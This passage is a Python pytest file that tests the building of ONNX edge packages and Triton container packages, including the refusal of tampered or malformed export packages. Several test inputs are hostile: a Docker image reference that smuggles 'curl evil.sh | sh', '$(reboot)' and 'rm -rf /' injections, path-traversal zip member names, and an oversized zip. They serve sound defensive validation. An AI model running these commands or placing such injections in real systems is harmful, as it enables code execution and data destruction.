"""Edge and container packages built from a real export package (FP32, FP16 and INT8 ONNX models).

The chosen edge model is loaded with onnx and run with ONNX Runtime on an input of the shape the
Kotlin and Swift wrappers declare; the container's Triton configuration is compared with the I/O of
the ONNX model next to it (read with onnx, not from the metadata), its ``build.sh`` is run against a
stand-in ``docker``, and the README's KServe request is generated and fed to the model. Then every kind
of bad export package is refused with a typed error.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import onnxruntime as ort
import pytest
from tests.support.packages import (
    MODEL_NAME,
    OUTPUT_NAMES,
    ExportPackages,
    build_export_packages,
    graph_io,
    member,
    rewrite_zip,
)
from tests.support.packages import parse_pbtxt as reference_parse_pbtxt

from heimdall.bundle.structural import TensorSpec
from heimdall.domain.deployments import MAX_IMAGE_REFERENCE
from heimdall.errors import PackageInconsistent, RequestInvalid
from heimdall.export_package.archive import ZIP_TIMESTAMP
from heimdall.export_package.container import (
    DEFAULT_TRITON_IMAGE,
    build_container_package,
    check_triton_image,
)
from heimdall.export_package.deployment import BuiltPackage
from heimdall.export_package.edge import build_edge_package
from heimdall.export_package.triton import check_triton_config, parse_pbtxt, triton_config
from heimdall_batch.package_facts import triton_max_batch_size
from heimdall_batch.specs import IOSpec

EDGE_WRAPPERS = ("runtimes/kotlin/ModelWrapper.kt", "runtimes/swift/ModelWrapper.swift")
TRITON_CONFIG = f"triton/{MODEL_NAME}/config.pbtxt"
TRITON_MODEL = f"triton/{MODEL_NAME}/1/model.onnx"
REPOSITORY = f"model_repository/{MODEL_NAME}"


@pytest.fixture(scope="module")
def packages(tmp_path_factory: pytest.TempPathFactory) -> ExportPackages:
    return build_export_packages(tmp_path_factory.mktemp("export"))


@pytest.fixture(scope="module")
def container(packages: ExportPackages, tmp_path_factory: pytest.TempPathFactory) -> BuiltPackage:
    return build_container_package(packages.full, tmp_path_factory.mktemp("container"), name="Inference box")


@pytest.fixture(scope="module")
def metadata(packages: ExportPackages) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads(member(packages.full, "metadata.json"))
    return loaded


@pytest.fixture(scope="module")
def config_text(packages: ExportPackages) -> str:
    return member(packages.full, TRITON_CONFIG).decode()


def _names(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return archive.namelist()


def _sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# --- the edge package -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("variant", "precision", "model_file"),
    [
        ("full", "int8", "model_int8.onnx"),
        ("fp16", "fp16", "model_fp16.onnx"),
        ("fp32", "fp32", "model.onnx"),
    ],
)
def test_auto_takes_int8_then_fp16_then_fp32(
    packages: ExportPackages, tmp_path: Path, variant: str, precision: str, model_file: str
) -> None:
    source = getattr(packages, variant)
    built = build_edge_package(source, tmp_path, name="Field phones")
    assert (built.model_file, built.precision) == (model_file, precision)
    assert built.file_name == "field-phones-edge.zip" and built.path == tmp_path / built.file_name
    data = built.path.read_bytes()
    assert (built.size_bytes, built.sha256) == (len(data), _sha256(data))
    names = _names(built.path)
    assert names == sorted(names)
    assert set(names) == {"README.md", "metadata.json", model_file, *EDGE_WRAPPERS}
    assert member(built.path, model_file) == member(source, model_file)
    for wrapper in EDGE_WRAPPERS:
        assert member(built.path, wrapper) == member(source, wrapper)
    edge = json.loads(member(built.path, "metadata.json"))["edge"]
    assert (edge["precision"], edge["model_file"], edge["requested_precision"]) == (
        precision,
        model_file,
        "auto",
    )
    assert edge["sha256"] == _sha256(member(source, model_file))


@pytest.mark.parametrize(
    ("precision", "model_file"),
    [("int8", "model_int8.onnx"), ("fp16", "model_fp16.onnx"), ("fp32", "model.onnx")],
)
def test_an_explicit_precision_is_honoured(
    packages: ExportPackages, tmp_path: Path, precision: Any, model_file: str
) -> None:
    built = build_edge_package(packages.full, tmp_path, name="phones", precision=precision)
    assert (built.model_file, built.precision) == (model_file, precision)
    models = [n for n in _names(built.path) if n.endswith(".onnx")]
    assert models == [model_file]  # one model, no other precision


@pytest.mark.parametrize(
    ("variant", "precision", "built"),
    [("fp32", "int8", "built: fp32"), ("fp32", "fp16", "built: fp32"), ("fp16", "int8", "built: fp16, fp32")],
)
def test_a_precision_that_was_not_built_is_a_422(
    packages: ExportPackages, tmp_path: Path, variant: str, precision: Any, built: str
) -> None:
    with pytest.raises(RequestInvalid) as caught:
        build_edge_package(getattr(packages, variant), tmp_path, name="phones", precision=precision)
    error = caught.value
    assert (error.http_status, error.field) == (422, "options.precision")
    assert f"no {precision} model" in error.message and built in error.message
    assert list(tmp_path.iterdir()) == []


def test_an_unknown_precision_is_refused(packages: ExportPackages, tmp_path: Path) -> None:
    with pytest.raises(RequestInvalid, match="precision must be one of auto, int8, fp16, fp32") as caught:
        build_edge_package(packages.full, tmp_path, name="phones", precision="int4")  # type: ignore[arg-type]
    assert caught.value.field == "options.precision"


def _kotlin_io(text: str) -> tuple[str, list[int], list[str]]:
    name = re.search(r'const val INPUT_NAME = "([^"]+)"', text)
    shape = re.search(r"val INPUT_SHAPE = longArrayOf\(([^)]*)\)", text)
    outputs = re.search(r"val OUTPUT_NAMES = listOf\(([^)]*)\)", text)
    assert name and shape and outputs, "the Kotlin wrapper no longer declares its I/O where expected"
    return name[1], [int(d) for d in shape[1].split(",")], re.findall(r'"([^"]+)"', outputs[1])


def _swift_io(text: str) -> tuple[str, list[int], list[str]]:
    name = re.search(r'static let inputName = "([^"]+)"', text)
    shape = re.search(r"static let inputShape: \[Int\] = \[([^\]]*)\]", text)
    outputs = re.search(r"static let outputNames: \[String\] = \[([^\]]*)\]", text)
    assert name and shape and outputs, "the Swift wrapper no longer declares its I/O where expected"
    return name[1], [int(d) for d in shape[1].split(",")], re.findall(r'"([^"]+)"', outputs[1])


def _dims(value: onnx.ValueInfoProto) -> list[int]:
    return [d.dim_value if d.HasField("dim_value") else -1 for d in value.type.tensor_type.shape.dim]


@pytest.mark.parametrize("precision", ["int8", "fp16", "fp32"])
def test_the_edge_model_has_the_io_the_wrappers_declare_and_runs(
    packages: ExportPackages, tmp_path: Path, precision: Any
) -> None:
    built = build_edge_package(packages.full, tmp_path, name="phones", precision=precision)
    kotlin = _kotlin_io(member(built.path, EDGE_WRAPPERS[0]).decode())
    swift = _swift_io(member(built.path, EDGE_WRAPPERS[1]).decode())
    assert kotlin == swift == ("input", [-1, 3, 16, 8], OUTPUT_NAMES)
    input_name, input_shape, output_names = kotlin

    data = member(built.path, built.model_file)
    model = onnx.load_model_from_string(data)
    onnx.checker.check_model(model)
    graph = model.graph
    assert [i.name for i in graph.input] == [input_name]
    assert _dims(graph.input[0]) == input_shape
    assert graph.input[0].type.tensor_type.elem_type == onnx.TensorProto.FLOAT  # the wrappers feed floats
    assert [o.name for o in graph.output] == output_names
    ops = {node.op_type for node in graph.node}
    initializer_types = {t.data_type for t in graph.initializer}
    if precision == "int8":
        assert {"QuantizeLinear", "DequantizeLinear"} <= ops
    elif precision == "fp16":
        assert onnx.TensorProto.FLOAT16 in initializer_types
    else:
        assert "QuantizeLinear" not in ops and onnx.TensorProto.FLOAT16 not in initializer_types

    session = ort.InferenceSession(data, providers=["CPUExecutionProvider"])
    shape = [3 if d < 0 else d for d in input_shape]
    x = np.random.default_rng(0).standard_normal(shape).astype(np.float32)
    outputs = session.run(output_names, {input_name: x})
    for name, value in zip(output_names, outputs, strict=True):
        assert value.shape == (3, 2), name
        assert np.isfinite(value).all(), name


def test_edge_metadata_describes_the_edge_package(
    packages: ExportPackages, metadata: dict[str, Any], tmp_path: Path
) -> None:
    built = build_edge_package(packages.full, tmp_path, name="Field phones")
    with zipfile.ZipFile(built.path) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
    edge_metadata = json.loads(contents.pop("metadata.json"))
    # Its files are the edge package's own, each with its real checksum.
    assert edge_metadata["files"] == {
        name: {"sha256": _sha256(data), "size_bytes": len(data)} for name, data in contents.items()
    }
    # Everything else is the export package's metadata as it was.
    for key in ("model", "inputs", "outputs", "preprocessing", "validation", "compatibility"):
        assert edge_metadata[key] == metadata[key], key
    edge = edge_metadata["edge"]
    assert edge["available_precisions"] == ["int8", "fp16", "fp32"]
    assert edge["format"] == "onnx_int8" and edge["deployment_name"] == "Field phones"
    assert edge["size_bytes"] == len(contents["model_int8.onnx"])
    assert edge["wrappers"] == {"kotlin": EDGE_WRAPPERS[0], "swift": EDGE_WRAPPERS[1]}


def test_edge_readme_says_which_file_to_pass_and_how(packages: ExportPackages, tmp_path: Path) -> None:
    built = build_edge_package(packages.fp16, tmp_path, name="Field | phones")
    readme = member(built.path, "README.md").decode()
    assert readme.startswith("# Field \\| phones: edge package for tiny-loc 1.2.0")
    assert "`model_fp16.onnx`: the model to ship with the app (**pass this file to the wrappers**)" in readme
    assert "com.microsoft.onnxruntime:onnxruntime-android" in readme and "`ai.onnxruntime`" in readme
    assert "pod 'onnxruntime-objc'" in readme
    assert 'Bundle.main.path(forResource: "model_fp16", ofType: "onnx")' in readme
    assert 'File(context.filesDir, "model_fp16.onnx")' in readme
    assert "model.predict(input, longArrayOf(1, 3, 16, 8))" in readme
    assert "try model.predict(input, shape: [1, 3, 16, 8])" in readme and "count: 384" in readme
    assert "| input | `input` | float32 | `[batch, 3, 16, 8]` |" in readme
    assert "| output | `uncertainties` | float32 | `[batch, 2]` |" in readme
    assert "mean = `[0.485, 0.456, 0.406]`" in readme and "std = `[0.229, 0.224, 0.225]`" in readme
    assert "1.12 or newer" in readme  # the export's minimum ONNX Runtime


def test_package_zips_are_deterministic(packages: ExportPackages, tmp_path: Path) -> None:
    for build in (build_edge_package, build_container_package):
        first = build(packages.full, tmp_path / "one", name="same")
        os.utime(packages.full, (1_700_000_000, 1_700_000_000))
        second = build(packages.full, tmp_path / "two", name="same")
        assert first.path.read_bytes() == second.path.read_bytes()
        assert first.sha256 == second.sha256
        with zipfile.ZipFile(first.path) as archive:
            infos = archive.infolist()
            assert archive.getinfo(first.model_file).compress_type == zipfile.ZIP_STORED
        assert {info.date_time for info in infos} == {ZIP_TIMESTAMP}
        modes = {info.filename: info.external_attr >> 16 for info in infos}
        assert all(mode in (0o100644, 0o100755) for mode in modes.values())
    assert not list(tmp_path.rglob(".*.tmp"))


# --- the container package ------------------------------------------------------------------------


def test_container_holds_the_triton_repository_dockerfile_and_build_script(
    packages: ExportPackages, container: BuiltPackage
) -> None:
    assert container.file_name == "inference-box-container.zip"
    assert (container.model_file, container.precision) == (f"{REPOSITORY}/1/model.onnx", "fp32")
    names = _names(container.path)
    assert names == sorted(names)
    assert set(names) == {
        "Dockerfile",
        "README.md",
        "build.sh",
        "metadata.json",
        f"{REPOSITORY}/1/model.onnx",
        f"{REPOSITORY}/config.pbtxt",
    }
    assert member(container.path, container.model_file) == member(packages.full, TRITON_MODEL)
    assert member(container.path, f"{REPOSITORY}/config.pbtxt") == member(packages.full, TRITON_CONFIG)
    data = container.path.read_bytes()
    assert (container.size_bytes, container.sha256) == (len(data), _sha256(data))
    section = json.loads(member(container.path, "metadata.json"))["container"]
    assert section["triton_image"] == DEFAULT_TRITON_IMAGE and section["max_batch_size"] == 32
    assert section["sha256"] == _sha256(member(packages.full, TRITON_MODEL))


def test_container_config_matches_the_real_onnx_io(container: BuiltPackage, tmp_path: Path) -> None:
    with zipfile.ZipFile(container.path) as archive:
        archive.extractall(tmp_path)
    repository = tmp_path / REPOSITORY
    # Read with test_package's own parser, and the I/O from the ONNX graph: nothing from this module.
    config = reference_parse_pbtxt((repository / "config.pbtxt").read_text(encoding="utf-8"))
    graph = graph_io(repository / "1" / "model.onnx")
    assert config["name"] == [MODEL_NAME] and config["platform"] == ["onnxruntime_onnx"]
    (max_batch,) = config["max_batch_size"]
    assert max_batch > 0
    declared = {t["name"][0]: t for t in [*config["input"], *config["output"]]}
    assert [t["name"][0] for t in config["output"]] == OUTPUT_NAMES
    assert set(declared) == set(graph)
    for name, (data_type, dims) in graph.items():
        assert not isinstance(dims[0], int)  # the batch axis is dynamic in the graph...
        assert declared[name]["data_type"] == [data_type]
        # ...and left out of the config: Triton adds it when max_batch_size > 0.
        assert declared[name]["dims"] == [d if isinstance(d, int) and d > 0 else -1 for d in dims[1:]]


def test_build_script_is_executable_and_builds_from_the_dockerfile(
    container: BuiltPackage, tmp_path: Path
) -> None:
    context = tmp_path / "context"
    with zipfile.ZipFile(container.path) as archive:
        archive.extractall(context)
        modes = {info.filename: (info.external_attr >> 16) & 0o777 for info in archive.infolist()}
    assert modes["build.sh"] == 0o755
    assert {mode for name, mode in modes.items() if name != "build.sh"} == {0o644}
    script = (context / "build.sh").read_text(encoding="utf-8")
    assert script.startswith("#!/usr/bin/env bash\n") and "set -euo pipefail" in script
    dockerfile = (context / "Dockerfile").read_text(encoding="utf-8").splitlines()
    instructions = [line for line in dockerfile if line and not line.startswith("#")]
    assert instructions[0] == f"FROM {DEFAULT_TRITON_IMAGE}"
    assert "COPY model_repository/ /models/" in instructions
    assert instructions[-1] == 'CMD ["tritonserver", "--model-repository=/models"]'
    assert "EXPOSE 8000 8001 8002" in instructions

    bash = shutil.which("bash")
    if bash is None:  # pragma: no cover - every CI image has bash
        pytest.skip("bash is not installed")
    # Run it as a user would (as an executable), against a docker that records what it was asked.
    os.chmod(context / "build.sh", modes["build.sh"])
    fake_bin = tmp_path / "bin"
    fake_bin.mkdir()
    record = tmp_path / "docker-calls"
    (fake_bin / "docker").write_text(f'#!/bin/sh\necho "$PWD $*" >> {record}\n', encoding="utf-8")
    (fake_bin / "docker").chmod(0o755)
    env = {**os.environ, "PATH": f"{fake_bin}{os.pathsep}{os.environ['PATH']}"}
    for args, tag in (
        ([], "inference-box:1.2.0"),
        (["registry.example.com/t/box:7"], "registry.example.com/t/box:7"),
    ):
        result = subprocess.run(
            [str(context / "build.sh"), *args],
            cwd=tmp_path,
            env=env,
            capture_output=True,
            text=True,
            timeout=30,
            check=False,
        )
        assert result.returncode == 0, result.stderr
        assert record.read_text(encoding="utf-8").splitlines()[-1] == f"{context} build -t {tag} ."
    (fake_bin / "docker").write_text("#!/bin/sh\nexit 3\n", encoding="utf-8")
    failed = subprocess.run(
        [str(context / "build.sh")], env=env, capture_output=True, timeout=30, check=False
    )
    assert failed.returncode == 3  # set -e: a failed build fails the script


def test_container_readme_has_a_kserve_request_the_model_accepts(
    container: BuiltPackage, tmp_path: Path
) -> None:
    readme = member(container.path, "README.md").decode()
    assert readme.startswith("# Inference box: Triton container for tiny-loc 1.2.0")
    for port in ("8000", "8001", "8002"):
        assert f"-p {port}:{port}" in readme and f"- `{port}`:" in readme
    assert "curl -s -X POST localhost:8000/v2/models/tiny-loc/infer" in readme
    assert "./build.sh" in readme and f"`FROM {DEFAULT_TRITON_IMAGE}`" in readme
    assert "mean = `[0.485, 0.456, 0.406]`" in readme
    # The README's request generator, run as the README says, makes a request the model accepts.
    generator = re.search(r"python3 - > request.json <<'EOF'\n(.*?)\nEOF\n", readme, re.DOTALL)
    assert generator is not None
    result = subprocess.run(
        [sys.executable, "-"],
        input=generator[1],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=30,
        check=True,
    )
    request = json.loads(result.stdout)
    (entry,) = request["inputs"]
    assert (entry["name"], entry["shape"], entry["datatype"]) == ("input", [1, 3, 16, 8], "FP32")
    assert [o["name"] for o in request["outputs"]] == OUTPUT_NAMES
    session = ort.InferenceSession(
        member(container.path, container.model_file), providers=["CPUExecutionProvider"]
    )
    x = np.asarray(entry["data"], dtype=np.float32).reshape(entry["shape"])
    outputs = session.run(OUTPUT_NAMES, {entry["name"]: x})
    assert [o.shape for o in outputs] == [(1, 2), (1, 2)]


def test_a_custom_triton_image_is_used(packages: ExportPackages, tmp_path: Path) -> None:
    image = "registry.example.com:5000/team/tritonserver:24.08-py3"
    built = build_container_package(packages.full, tmp_path, name="box", triton_image=image)
    assert f"FROM {image}\n" in member(built.path, "Dockerfile").decode()
    assert json.loads(member(built.path, "metadata.json"))["container"]["triton_image"] == image
    default = build_container_package(packages.full, tmp_path / "default", name="box", triton_image=None)
    assert f"FROM {DEFAULT_TRITON_IMAGE}\n" in member(default.path, "Dockerfile").decode()


@pytest.mark.parametrize(
    "image",
    [
        DEFAULT_TRITON_IMAGE,
        "nvcr.io/nvidia/tritonserver:24.08-py3",
        "localhost:5000/triton:1",
        "tritonserver:latest",
        "ghcr.io/acme/triton-custom@sha256:" + "a" * 64,
        "ghcr.io/acme/triton_custom:2.1.0@sha256:" + "0" * 64,
    ],
)
def test_pinned_image_references_are_accepted(image: str) -> None:
    assert check_triton_image(image) == image


@pytest.mark.parametrize(
    ("image", "why"),
    [
        ("", "not a Docker image reference"),
        ("tritonserver", "no tag or digest"),
        ("localhost:5000/triton", "no tag or digest"),
        ("nvcr.io/nvidia/tritonserver:25.01-py3\nRUN curl evil.sh | sh", "not a Docker image reference"),
        ("nvcr.io/nvidia/tritonserver:25.01-py3 AS x", "not a Docker image reference"),
        ("nvcr.io/NVIDIA/tritonserver:25.01-py3", "not a Docker image reference"),
        ("nvcr.io/nvidia/tritonserver:", "not a Docker image reference"),
        ("nvcr.io/nvidia/tritonserver:-bad", "not a Docker image reference"),
        ("triton@sha256:abc", "not a Docker image reference"),
        ("../triton:1", "not a Docker image reference"),
        ("$(reboot):1", "not a Docker image reference"),
        ("a" * 400 + ":1", f"at most {MAX_IMAGE_REFERENCE} characters"),
    ],
)
def test_other_image_references_are_refused(
    packages: ExportPackages, tmp_path: Path, image: str, why: str
) -> None:
    with pytest.raises(RequestInvalid, match=re.escape(why)) as caught:
        build_container_package(packages.full, tmp_path, name="box", triton_image=image)
    assert (caught.value.field, caught.value.http_status) == ("options.triton_image", 422)
    assert list(tmp_path.iterdir()) == []


# --- the Triton configuration check -----------------------------------------------------------------


def test_the_pbtxt_reader_agrees_with_an_independent_one(config_text: str) -> None:
    assert parse_pbtxt(config_text) == reference_parse_pbtxt(config_text)
    assert parse_pbtxt('a: "x\\"y" # comment\nb { c: [ 1, -2 ], d: 0.5 }; e: TYPE_FP32') == {
        "a": ['x"y'],
        "b": [{"c": [1, -2], "d": [0.5]}],
        "e": ["TYPE_FP32"],
    }
    with pytest.raises(PackageInconsistent, match="line 1: messages nested too deeply"):
        parse_pbtxt("a " + "{ b " * 50 + "}" * 50)
    with pytest.raises(PackageInconsistent, match=r"line 2: unsupported escape \\q"):
        parse_pbtxt('a: 1\nb: "\\q"')
    with pytest.raises(PackageInconsistent, match="line 1: expected a value, got ']'"):
        parse_pbtxt("a: ]")


def test_the_generated_config_agrees_with_the_metadata(config_text: str, metadata: dict[str, Any]) -> None:
    check_triton_config(config_text, metadata)  # raises on any disagreement


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (
            "dims: [ 3, 16, 8 ]",
            "dims: [ 3, 16, 9 ]",
            "input 'input' has dims [3, 16, 9]; metadata.json's shape [batch, 3, 16, 8] gives [3, 16, 8]",
        ),
        ("dims: [ 3, 16, 8 ]", "dims: [ -1, 3, 16, 8 ]", "has dims [-1, 3, 16, 8]"),
        (
            'name: "positions"',
            'name: "position"',
            "output 0 is named 'position', metadata.json says 'positions'",
        ),
        ('name: "tiny-loc"', 'name: "other"', "it names the model 'other', metadata.json 'tiny-loc'"),
        (
            "data_type: TYPE_FP32\n    dims: [ 2 ]",
            "data_type: TYPE_FP16\n    dims: [ 2 ]",
            "output 'positions' has data_type TYPE_FP16, metadata.json's float32 is TYPE_FP32",
        ),
        ("max_batch_size: 32", "max_batch_size: 0", "dynamic batch axis but max_batch_size is 0"),
        (
            'platform: "onnxruntime_onnx"',
            'platform: "tensorrt_plan"',
            "not served by the ONNX Runtime backend",
        ),
        (
            ',\n  {\n    name: "uncertainties"',
            ' ]\nfoo [ {\n    name: "uncertainties"',
            "declares 1 output(s) ['positions'], metadata.json 2",
        ),
        ("input [", "input {", "line 6: expected a field name, got '{'"),
        ("dynamic_batching { }", "dynamic_batching {", "unexpected end, expected '}'"),
        ("max_batch_size: 32", "max_batch_size: 32\nmax_batch_size: 8", "needs one max_batch_size"),
    ],
)
def test_a_config_that_disagrees_is_refused_naming_the_disagreement(
    config_text: str, metadata: dict[str, Any], old: str, new: str, message: str
) -> None:
    assert old in config_text
    with pytest.raises(PackageInconsistent, match=re.escape(message)) as caught:
        check_triton_config(config_text.replace(old, new, 1), metadata)
    assert caught.value.http_status == 422


def test_dynamic_and_scalar_dimensions_as_the_generator_writes_them(
    packages: ExportPackages, metadata: dict[str, Any]
) -> None:
    spec = IOSpec(
        inputs=(TensorSpec(name="input", elem_type="float32", shape=("batch", 3, "height", None)),),
        outputs=(
            TensorSpec(name="positions", elem_type="float32", shape=("batch", 2)),
            TensorSpec(name="count", elem_type="int64", shape=("batch",)),
        ),
        dynamic_batch=True,
    )
    # The export job's own generator writes the config; this module must accept exactly that.
    max_batch = triton_max_batch_size(packages.built.manifest, spec)
    config = triton_config(MODEL_NAME, spec.inputs, spec.outputs, max_batch_size=max_batch)
    assert "dims: [ 3, -1, -1 ]" in config and "reshape: { shape: [ ] }" in config
    described = {
        **metadata,
        "inputs": [{"name": t.name, "dtype": t.elem_type, "shape": list(t.shape)} for t in spec.inputs],
        "outputs": [{"name": t.name, "dtype": t.elem_type, "shape": list(t.shape)} for t in spec.outputs],
    }
    check_triton_config(config, described)
    with pytest.raises(PackageInconsistent, match=re.escape("has dims [3, 0, -1]; metadata.json's shape")):
        check_triton_config(config.replace("dims: [ 3, -1, -1 ]", "dims: [ 3, 0, -1 ]"), described)
    with pytest.raises(PackageInconsistent, match="needs dims \\[1\\] and an empty reshape"):
        check_triton_config(config.replace("    reshape: { shape: [ ] }\n", ""), described)


def test_fixed_batch_and_scalar_tensors_follow_the_generator_convention(metadata: dict[str, Any]) -> None:
    fixed = {
        **metadata,
        "dynamic_batch": False,
        "inputs": [{"name": "input", "dtype": "float32", "shape": [2, 3, 16, 8]}],
        "outputs": [{"name": "score", "dtype": "int64", "shape": []}],
    }
    config = (
        'name: "tiny-loc"\nplatform: "onnxruntime_onnx"\nmax_batch_size: 0\n'
        'input [\n  {\n    name: "input"\n    data_type: TYPE_FP32\n    dims: [ 2, 3, 16, 8 ]\n  }\n]\n'
        'output [\n  {\n    name: "score"\n    data_type: TYPE_INT64\n    dims: [ 1 ]\n'
        "    reshape: { shape: [ ] }\n  }\n]\n"
    )
    check_triton_config(config, fixed)
    with pytest.raises(PackageInconsistent, match="needs dims \\[1\\] and an empty reshape"):
        check_triton_config(config.replace("    reshape: { shape: [ ] }\n", ""), fixed)
    with pytest.raises(PackageInconsistent, match="fixed batch size but max_batch_size is 4"):
        check_triton_config(config.replace("max_batch_size: 0", "max_batch_size: 4"), fixed)
    with pytest.raises(PackageInconsistent, match=r"metadata\.json does not describe the package: inputs"):
        check_triton_config(config, {**fixed, "inputs": []})


# --- refusals of a bad export package --------------------------------------------------------------

BUILDERS: dict[str, Callable[..., BuiltPackage]] = {
    "edge": build_edge_package,
    "container": build_container_package,
}


def _refused(builder: str, source: Path, out_dir: Path, message: str, **kwargs: Any) -> PackageInconsistent:
    with pytest.raises(PackageInconsistent, match=message) as caught:
        BUILDERS[builder](source, out_dir, name="box", **kwargs)
    assert caught.value.http_status == 422 and caught.value.code == "PACKAGE_INCONSISTENT"
    assert not out_dir.exists() or list(out_dir.iterdir()) == []  # nothing half-written is left
    return caught.value


@pytest.mark.parametrize("builder", BUILDERS)
def test_what_is_not_a_zip_is_refused(packages: ExportPackages, tmp_path: Path, builder: str) -> None:
    garbage = tmp_path / "garbage.zip"
    garbage.write_bytes(b"PK\x03\x04 this is not a zip archive")
    _refused(builder, garbage, tmp_path / "out", "not a readable zip archive")
    truncated = tmp_path / "truncated.zip"
    truncated.write_bytes(packages.full.read_bytes()[: packages.full.stat().st_size // 2])
    _refused(builder, truncated, tmp_path / "out", "not a readable zip archive")
    _refused(builder, tmp_path / "missing.zip", tmp_path / "out", "not a readable zip archive")


@pytest.mark.parametrize(("builder", "model"), [("edge", "model_int8.onnx"), ("container", TRITON_MODEL)])
def test_a_tampered_model_is_refused(
    packages: ExportPackages, tmp_path: Path, builder: str, model: str
) -> None:
    original = member(packages.full, model)
    flipped = bytearray(original)
    flipped[len(flipped) // 2] ^= 0xFF  # same size, other bytes
    tampered = rewrite_zip(packages.full, tmp_path / "tampered.zip", replace={model: bytes(flipped)})
    error = _refused(builder, tampered, tmp_path / "out", "does not match metadata.json: sha256")
    assert model in error.message and _sha256(original)[:12] in error.message
    longer = rewrite_zip(packages.full, tmp_path / "longer.zip", replace={model: original + b"\0"})
    _refused(builder, longer, tmp_path / "out", f"holds {len(original) + 1} bytes, metadata.json records")


@pytest.mark.parametrize("builder", BUILDERS)
def test_a_tampered_wrapper_or_config_is_refused(
    packages: ExportPackages, tmp_path: Path, builder: str
) -> None:
    name = EDGE_WRAPPERS[1] if builder == "edge" else TRITON_CONFIG
    text = member(packages.full, name)
    tampered = rewrite_zip(
        packages.full, tmp_path / "t.zip", replace={name: text.replace(b"input", b"INPUT")}
    )
    _refused(builder, tampered, tmp_path / "out", "does not match metadata.json")


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (b"dims: [ 3, 16, 8 ]", b"dims: [ 3, 16, 9 ]", r"input 'input' has dims \[3, 16, 9\]"),
        (b'name: "uncertainties"', b'name: "uncertainty"', "output 1 is named 'uncertainty'"),
    ],
)
def test_a_config_edited_with_its_checksum_is_refused(
    packages: ExportPackages, tmp_path: Path, old: bytes, new: bytes, message: str
) -> None:
    config = member(packages.full, TRITON_CONFIG)
    edited = rewrite_zip(
        packages.full, tmp_path / "edited.zip", replace={TRITON_CONFIG: config.replace(old, new)}, rehash=True
    )
    _refused("container", edited, tmp_path / "out", message)
    # The same edit without the new checksum is caught by the checksum first.
    unhashed = rewrite_zip(
        packages.full, tmp_path / "unhashed.zip", replace={TRITON_CONFIG: config.replace(old, new)}
    )
    _refused("container", unhashed, tmp_path / "out", "(does not match|bytes,) metadata.json")


@pytest.mark.parametrize("builder", BUILDERS)
@pytest.mark.parametrize(
    # A directory entry too: the one rule (heimdall.export_package.archive) wants plain file names.
    "name", ["../evil.txt", "runtimes/../../evil.txt", "/etc/cron.d/evil", "C:/evil.txt", "runtimes/"]
)
def test_unsafe_member_names_are_refused(
    packages: ExportPackages, tmp_path: Path, builder: str, name: str
) -> None:
    info = zipfile.ZipInfo(name)
    evil = rewrite_zip(packages.full, tmp_path / "evil.zip", add=[(info, b"owned")])
    assert name in _names(evil)  # the name reached the archive as written
    _refused(builder, evil, tmp_path / "out", "unsafe member name")


@pytest.mark.parametrize("builder", BUILDERS)
def test_oversized_members_are_refused_before_reading(
    packages: ExportPackages, tmp_path: Path, builder: str
) -> None:
    bomb = rewrite_zip(packages.full, tmp_path / "bomb.zip", add=[("padding.bin", b"\0" * (4 << 20))])
    assert bomb.stat().st_size < 200_000  # 4 MiB of zeros deflate to a few KiB
    error = _refused(
        builder,
        bomb,
        tmp_path / "out",
        "declares 4.0 MiB uncompressed, over the limit of 3.0 MiB",
        max_bytes=3 << 20,
    )
    assert "padding.bin" in error.message
    with zipfile.ZipFile(packages.full) as archive:
        total = sum(info.file_size for info in archive.infolist())
    _refused(builder, packages.full, tmp_path / "out", "of content, over the limit", max_bytes=total - 1)
    assert BUILDERS[builder](packages.full, tmp_path / "ok", name="box", max_bytes=total).size_bytes > 0


@pytest.mark.parametrize("builder", BUILDERS)
def test_duplicate_members_are_refused(packages: ExportPackages, tmp_path: Path, builder: str) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate it is told to write
        twice = rewrite_zip(packages.full, tmp_path / "twice.zip", add=[("metadata.json", b"{}")])
    _refused(builder, twice, tmp_path / "out", "holds 'metadata.json' twice")


@pytest.mark.parametrize("builder", BUILDERS)
def test_missing_metadata_or_listed_files_are_refused(
    packages: ExportPackages, tmp_path: Path, builder: str
) -> None:
    no_metadata = rewrite_zip(packages.full, tmp_path / "a.zip", drop=["metadata.json"])
    _refused(builder, no_metadata, tmp_path / "out", "the export package has no metadata.json")
    dropped = EDGE_WRAPPERS[0] if builder == "edge" else TRITON_MODEL
    no_file = rewrite_zip(packages.full, tmp_path / "b.zip", drop=[dropped])
    _refused(
        builder, no_file, tmp_path / "out", re.escape(f"metadata.json lists '{dropped}', which the export")
    )


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (b"{not json", "metadata.json is not valid JSON"),
        (b'{"a": 1, "a": 2}', "duplicate key 'a'"),
        (b'{"x": NaN}', "NaN is not a JSON number"),
        (b'{"x": -1e999}', "-1e999 is not a finite number"),
        (b'{"x": ' + b"1" * 5000 + b"}", "is not valid JSON"),
        (b"[]", "is not a JSON object"),
        (b"\xff\xfe", "is not valid JSON"),
        (b"[" * 100_000 + b"]" * 100_000, "is not valid JSON"),
        (
            b'{"model": {"name": "tiny-loc", "version": "1"}}',
            "metadata.json does not describe the package: inputs",
        ),
    ],
)
def test_bad_metadata_is_refused(packages: ExportPackages, tmp_path: Path, text: bytes, message: str) -> None:
    bad = rewrite_zip(packages.full, tmp_path / "bad.zip", replace={"metadata.json": text})
    _refused("edge", bad, tmp_path / "out", re.escape(message))


def test_metadata_values_are_validated(
    packages: ExportPackages, metadata: dict[str, Any], tmp_path: Path
) -> None:
    cases = [
        ({**metadata, "model": {**metadata["model"], "name": "tiny loc; rm -rf /"}}, "model.name"),
        ({**metadata, "inputs": [{**metadata["inputs"][0], "dtype": "complex64"}]}, "inputs.0.dtype"),
        (
            {**metadata, "inputs": [{**metadata["inputs"][0], "shape": ["batch", True, 16, 8]}]},
            "inputs.0.shape.1",
        ),
